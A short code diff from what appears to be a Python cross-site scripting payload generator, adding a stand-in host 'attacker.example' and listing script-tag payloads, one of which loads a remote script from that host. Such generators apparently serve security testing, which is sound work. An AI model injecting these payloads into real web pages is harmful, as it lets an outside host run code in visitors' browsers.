@@ -4,6 +4,7 @@ from collections.abc import Iterator
 from itertools import product
 from random import Random
 
+HOST = "attacker.example"
 BARE = (
     "<script>ran()</script>",
     "<script src=//{host}/x.js></script>",
